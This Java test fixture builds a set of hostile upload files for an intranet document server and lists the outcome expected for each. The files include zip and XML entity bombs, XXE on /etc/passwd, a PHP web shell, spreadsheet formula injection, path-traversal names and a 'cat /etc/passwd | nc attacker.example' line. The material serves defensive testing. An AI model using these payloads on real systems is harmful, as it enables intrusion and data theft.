package org.peaceops.intranet.it;

import java.io.ByteArrayOutputStream;
import java.io.IOException;
import java.io.OutputStream;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.ArrayList;
import java.util.List;
import java.util.zip.ZipEntry;
import java.util.zip.ZipOutputStream;
import org.peaceops.intranet.documents.application.ingest.HostileFiles;

/**
 * The hostile set of {@link HostileFilesIT}, made by the test with the JDK and PDFBox (nothing binary is
 * committed, nothing downloaded), and what the server must do with each file. The table is data: one
 * {@link Case} per file, its bytes and its expected {@link Outcome}, so an expectation is changed in one
 * line when a rule changes.
 *
 * <p>A refusal is a 4xx JSON answer whose {@code error} is the upload page's reason key
 * ({@code upload.rejected.<UploadRejection>}); an accepted file ends with the given text status (and
 * reason, when one is given) in {@code documents.content_extraction}. A hostile name is either refused
 * with a 4xx JSON reason or stored made safe: no path separator, no control or bidirectional character,
 * no trailing dot or space.
 */
final class HostileFileSet {

    /** What the server must answer for one file. */
    sealed interface Outcome permits Refused, Accepted, SafeName {
    }

    /** Refused with a 4xx JSON body whose {@code error} is {@code key}. */
    record Refused(String key) implements Outcome {
    }

    /** Stored (200), then extraction ends with {@code status}, and with {@code reason} unless that is null. */
    record Accepted(String status, String reason) implements Outcome {
    }

    /** A hostile name: refused with a 4xx JSON reason, or stored under a safe name. Never a 500. */
    record SafeName() implements Outcome {
    }

    /** One file of the set: the name sent as {@code ?name=}, the bytes on disk, the expected outcome. */
    record Case(String label, String name, Path file, Outcome expected) {
    }

    static final String EMPTY = "upload.rejected.EMPTY";
    static final String NOT_ALLOWED = "upload.rejected.TYPE_NOT_ALLOWED";
    static final String MISMATCH = "upload.rejected.TYPE_MISMATCH";

    /** The first line of /etc/passwd: it must never appear in an extracted text or the server log. */
    static final String SECRET_MARK = "root:x:0:0:";

    private final Path dir;
    private final HostileFiles basic;
    private final String id;

    HostileFileSet(Path dir, String id) {
        this.dir = dir;
        this.basic = new HostileFiles(dir);
        this.id = id;
    }

    /** Every case, generated into the directory. {@code id} makes each content unique to this run. */
    List<Case> all() throws IOException {
        List<Case> cases = new ArrayList<>();
        // Archives and bombs
        cases.add(new Case("zip bomb (256 MB of zeros)", "bomb-" + id + ".zip", zipBomb("zipbomb-" + id, 256), new Refused(NOT_ALLOWED)));
        cases.add(new Case("zip of 10,000 entries", "many-" + id + ".zip", manyEntries("many-" + id, 10_000), new Refused(NOT_ALLOWED)));
        cases.add(new Case("nested zip, 40 levels", "nested-" + id + ".zip", basic.nestedZip("nested-" + id, 40), new Refused(NOT_ALLOWED)));
        cases.add(new Case("empty zip", "void-" + id + ".zip", emptyZip("void-" + id), new Refused(NOT_ALLOWED)));
        cases.add(new Case("DOCX decompression bomb", "inflate-" + id + ".docx", basic.docxBomb("inflate-" + id, 200),
                new Accepted("FAILED", "ARCHIVE_BOMB")));
        // XML bombs inside office documents: the Word parser reads no DOCTYPE at all (nothing to keep); the
        // OpenDocument parser stops at its limit and the text before it is kept, recorded as truncated.
        cases.add(new Case("DOCX with an XML entity bomb", "laughs-" + id + ".docx", basic.docx("laughs-" + id + ".bin", id,
                HostileFiles.BILLION_LAUGHS_DOCTYPE, HostileFiles.BILLION_LAUGHS_BODY), new Accepted("FAILED", "CORRUPT")));
        cases.add(new Case("ODT with an XML entity bomb", "laughs-" + id + ".odt", basic.odt("laughs-odt-" + id + ".bin", id,
                HostileFiles.BILLION_LAUGHS_DOCTYPE, HostileFiles.BILLION_LAUGHS_BODY), new Accepted("EXTRACTED", "TEXT_TRUNCATED")));
        cases.add(new Case("ODT with a quadratic entity blow-up", "quadratic-" + id + ".odt", basic.odt("quadratic-" + id + ".bin", id,
                HostileFiles.QUADRATIC_DOCTYPE, HostileFiles.QUADRATIC_BODY), new Accepted("EXTRACTED", "TEXT_TRUNCATED")));
        // Disguised executables
        cases.add(new Case("ELF executable named .pdf", "elf-" + id + ".pdf", basic.elf("elf-" + id + ".bin", id), new Refused(MISMATCH)));
        cases.add(new Case("PE executable named .docx", "pe-" + id + ".docx", pe("pe-" + id), new Refused(MISMATCH)));
        cases.add(new Case("shell script named .pdf", "script-" + id + ".pdf", bytes("script-" + id,
                ("#!/bin/sh\ncat /etc/passwd | nc attacker.example 4444\n# " + id + "\n").getBytes(StandardCharsets.US_ASCII)),
                new Refused(MISMATCH)));
        cases.add(new Case("PHP web shell named .docx", "shell-" + id + ".docx", bytes("php-" + id,
                ("<?php system($_GET['c']); // " + id + " ?>\n").getBytes(StandardCharsets.US_ASCII)), new Refused(MISMATCH)));
        // Polyglots
        cases.add(new Case("JPEG + HTML polyglot named .html", "welcome-" + id + ".html", basic.polyglot("polyglot-" + id),
                new Refused(MISMATCH)));
        cases.add(new Case("PDF with a ZIP appended", "pdfzip-" + id + ".pdf", pdfWithZip("pdfzip-" + id),
                new Accepted("EXTRACTED", null)));
        // XXE
        cases.add(new Case("DOCX with XXE on /etc/passwd", "xxe-" + id + ".docx", basic.docx("xxe-" + id + ".bin", id,
                XXE_DOCTYPE, "&xxe;"), new Accepted("FAILED", "CORRUPT")));
        cases.add(new Case("XHTML with XXE on /etc/passwd", "xxe-" + id + ".xhtml", bytes("xxe-" + id + "-x",
                ("<?xml version=\"1.0\"?>" + XXE_DOCTYPE.replace("ROOT", "html") + "<html xmlns=\"http://www.w3.org/1999/xhtml\">"
                        + "<head><title>XXE " + id + "</title></head><body><p>before &xxe; after</p></body></html>")
                        .getBytes(StandardCharsets.UTF_8)), new Accepted("EXTRACTED", null)));
        cases.add(new Case("SVG with XXE", "xxe-" + id + ".svg", bytes("xxe-" + id + "-s", ("<?xml version=\"1.0\"?>"
                + XXE_DOCTYPE.replace("ROOT", "svg") + "<svg xmlns=\"http://www.w3.org/2000/svg\"><text>&xxe;</text></svg>")
                .getBytes(StandardCharsets.UTF_8)), new Refused(NOT_ALLOWED)));
        cases.add(new Case("XML with XXE", "xxe-" + id + ".xml", bytes("xxe-" + id + "-m", ("<?xml version=\"1.0\"?>"
                + XXE_DOCTYPE.replace("ROOT", "r") + "<r>&xxe;</r>").getBytes(StandardCharsets.UTF_8)), new Refused(NOT_ALLOWED)));
        // Broken and encrypted PDFs
        cases.add(new Case("PDF cut in half", "cut-" + id + ".pdf", basic.truncatedPdf("cut-" + id), new Accepted("FAILED", "CORRUPT")));
        cases.add(new Case("PDF header then garbage", "garbage-" + id + ".pdf", bytes("garbage-" + id,
                ("%PDF-1.7\n" + "\u0001\u0002 not a pdf body ".repeat(200) + id).getBytes(StandardCharsets.ISO_8859_1)),
                new Accepted("FAILED", "CORRUPT")));
        cases.add(new Case("password-protected PDF", "locked-" + id + ".pdf", basic.encryptedPdf("locked-" + id),
                new Accepted("NO_TEXT", "ENCRYPTED")));
        cases.add(new Case("empty file", "empty-" + id + ".pdf", basic.empty("empty-" + id), new Refused(EMPTY)));
        // Formula injection and huge text
        cases.add(new Case("CSV with formulas", "formulas-" + id + ".csv", bytes("formulas-" + id,
                ("name,amount\n=cmd|' /C calc'!A0,1\n@SUM(1+1)*cmd|' /C calc'!A0,2\n+HYPERLINK(\"http://attacker.example\"),3\n" + id)
                        .getBytes(StandardCharsets.UTF_8)), new Refused(NOT_ALLOWED)));
        cases.add(new Case("text with formulas", "formulas-" + id + ".txt", bytes("formulas-" + id + "-t",
                ("=cmd|' /C calc'!A0\n-2+3+cmd|' /C calc'!A0\n" + id + "\n").getBytes(StandardCharsets.UTF_8)),
                new Accepted("EXTRACTED", null)));
        cases.add(new Case("51 MiB single-line text", "oneline-" + id + ".txt", singleLine("oneline-" + id, 51L << 20),
                new Accepted("EXTRACTED", "TEXT_TRUNCATED")));
        // Hostile names (harmless content)
        Path pdf = basic.pdf("named-" + id, "A harmless report " + id);
        Path text = bytes("named-text-" + id, ("A harmless note " + id + "\n").getBytes(StandardCharsets.US_ASCII));
        cases.add(new Case("reserved device name", "aux.pdf", copy(pdf, "aux"), new SafeName()));
        cases.add(new Case("trailing space", "trailing-space.pdf ", copy(pdf, "trailing"), new SafeName()));
        cases.add(new Case("double extension .pdf.exe", "report.pdf.exe", copy(pdf, "exe"), new Refused(MISMATCH)));
        cases.add(new Case("JSP with ;.pdf", "shell.jsp;.pdf", copy(pdf, "jsp"), new SafeName()));
        cases.add(new Case("Windows path traversal", "..\\..\\windows\\win.ini", copy(text, "win"), new SafeName()));
        cases.add(new Case("Unix path traversal", "../../../../tmp/escaped-" + id + ".txt", copy(text, "unix"), new SafeName()));
        cases.add(new Case("right-to-left override", "invoice-\u202Efdp.exe-" + id + ".pdf", copy(pdf, "rtl"), new SafeName()));
        cases.add(new Case("NUL in the name", "nul-\u0000" + id + ".pdf", copy(pdf, "nul"), new SafeName()));
        return cases;
    }

    private static final String XXE_DOCTYPE = HostileFiles.XXE_DOCTYPE;

    private Path bytes(String stem, byte[] content) throws IOException {
        Path file = dir.resolve(stem + ".bin");
        Files.write(file, content);
        return file;
    }

    private Path copy(Path source, String stem) throws IOException {
        return Files.copy(source, dir.resolve(stem + "-" + id + ".bin"));
    }

    /** One entry of {@code mb} megabytes of zeros: a ~1 MB zip that inflates a thousand times. */
    private Path zipBomb(String stem, int mb) throws IOException {
        Path file = dir.resolve(stem + ".bin");
        byte[] zeros = new byte[1 << 20];
        try (ZipOutputStream zip = new ZipOutputStream(Files.newOutputStream(file))) {
            zip.setLevel(9);
            zip.putNextEntry(new ZipEntry("zeros-" + id + ".txt"));
            for (int i = 0; i < mb; i++) {
                zip.write(zeros);
            }
            zip.closeEntry();
        }
        return file;
    }

    private Path manyEntries(String stem, int entries) throws IOException {
        Path file = dir.resolve(stem + ".bin");
        try (ZipOutputStream zip = new ZipOutputStream(Files.newOutputStream(file))) {
            for (int i = 0; i < entries; i++) {
                zip.putNextEntry(new ZipEntry("e" + i + ".txt"));
                zip.write(id.getBytes(StandardCharsets.US_ASCII));
                zip.closeEntry();
            }
        }
        return file;
    }

    private Path emptyZip(String stem) throws IOException {
        Path file = dir.resolve(stem + ".bin");
        // An empty archive is only its end-of-central-directory record; a comment keeps it unique.
        try (ZipOutputStream zip = new ZipOutputStream(Files.newOutputStream(file))) {
            zip.setComment(id);
        }
        return file;
    }

    /** A DOS/PE header: "MZ", the PE offset at 0x3C, then "PE\0\0". */
    private Path pe(String stem) throws IOException {
        byte[] b = new byte[1024];
        b[0] = 'M';
        b[1] = 'Z';
        b[0x3C] = (byte) 0x80;
        b[0x80] = 'P';
        b[0x81] = 'E';
        byte[] mark = id.getBytes(StandardCharsets.US_ASCII);
        System.arraycopy(mark, 0, b, 0x200, mark.length);
        return bytes(stem, b);
    }

    private Path pdfWithZip(String stem) throws IOException {
        ByteArrayOutputStream out = new ByteArrayOutputStream();
        out.write(Files.readAllBytes(basic.pdf(stem + ".pdf-part", "A report carrying a zip " + id)));
        try (ZipOutputStream zip = new ZipOutputStream(out)) {
            entry(zip, "payload.sh", "#!/bin/sh\necho " + id + "\n");
        }
        return bytes(stem, out.toByteArray());
    }

    /** One line of {@code size} bytes, no newline: streamed to disk. */
    private Path singleLine(String stem, long size) throws IOException {
        Path file = dir.resolve(stem + ".bin");
        byte[] chunk = ("field-report-" + id + "-").repeat(4096).getBytes(StandardCharsets.US_ASCII);
        try (OutputStream out = Files.newOutputStream(file)) {
            for (long written = 0; written < size; written += chunk.length) {
                out.write(chunk, 0, (int) Math.min(chunk.length, size - written));
            }
        }
        return file;
    }

    private static void entry(ZipOutputStream zip, String name, String content) throws IOException {
        zip.putNextEntry(new ZipEntry(name));
        zip.write(content.getBytes(StandardCharsets.UTF_8));
        zip.closeEntry();
    }
}
